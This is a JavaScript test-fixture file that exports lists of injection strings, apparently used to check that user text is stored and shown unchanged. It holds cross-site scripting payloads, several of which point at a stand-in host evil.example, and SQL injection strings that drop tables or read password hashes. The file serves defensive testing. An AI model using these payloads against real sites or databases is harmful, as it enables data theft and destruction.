/* SPDX-License-Identifier: Apache-2.0 */
/* Texts that mean something elsewhere. `hit` is what a script would do if it ran; each text is one line,
 * trimmed and in NFC, so that it must come back just as it went in. */
const hit = (n) => `window.hit=${n}`;

export const SCRIPTS = [
	`<script>${hit(1)}</script>`,
	`</title><script>${hit(2)}</script>`,
	`"><img src=x onerror="${hit(3)}">`,
	`'><svg onload='${hit(4)}'>`,
	`</textarea><svg/onload=${hit(5)}>`,
	`" autofocus onfocus="${hit(6)}" x="`,
	`' onmouseover='${hit(7)}`,
	`\` onclick=${hit(8)} \``,
	`javascript:${hit(9)}`,
	`JaVaScRiPt&colon;${hit(10)}`,
	`data:text/html,<script>${hit(11)}</script>`,
	`<a href="javascript:${hit(12)}">click</a>`,
	`<iframe srcdoc="<script>parent.${hit(13)}</script>"></iframe>`,
	`<style>@import '//evil.example/x';</style>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<base href="//evil.example/">`,
	`<form action="//evil.example"><button>x`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${hit(19)}>`,
	`<noscript><p title="</noscript><img src=x onerror=${hit(20)}>">`,
	`--><script>${hit(21)}</script><!--`,
	`]]><script>${hit(22)}</script>`,
	`&lt;script&gt;${hit(23)}&lt;/script&gt;`,
	`&#60;img src=x onerror=${hit(24)}&#62;`,
	`{{ constructor.constructor('${hit(25)}')() }}`,
	`\${${hit(26)}} %s %n %d %1$s`,
	`<xmp><p title="</xmp><svg onload=${hit(27)}>">`,
	`\u202Eevil\u202C <b>x</b>`,
	`x" style="position:fixed;inset:0;background:url(//evil.example)`,
	`<div hx-get="//evil.example" hx-trigger="load">`,
];

export const STATEMENTS = [
	`' OR '1'='1`,
	`" OR ""="`,
	`'; DROP TABLE person; --`,
	`1; DELETE FROM session`,
	`') UNION SELECT password_hash FROM credential --`,
	`x' AND 1=(SELECT count(*) FROM person) AND 'a'='a`,
	`\\'; SELECT pg_sleep(5); --`,
	`%' ESCAPE '\\`,
	`$1 :name ?1 @x`,
	`/*`,
	`--`,
	`\` ; VACUUM`,
	`0x27204f5220`,
	`'||(SELECT sql FROM sqlite_master)||'`,
	`$$; DROP SCHEMA public CASCADE; $$`,
	`E'\\x27'`,
	`NULL`,
	`-1`,
	`9223372036854775808`,
	`%_%`,
];

/* Unlovely, but people's own. */
export const NAMES = [`O'Brien`, `Müller-Lüdenscheidt`, `李小龍`, `يوسف`, `Null`, `X Æ A-12`, `Nguyễn Thị Minh Khai`, `🧭 Compass`, `a`.repeat(120)];
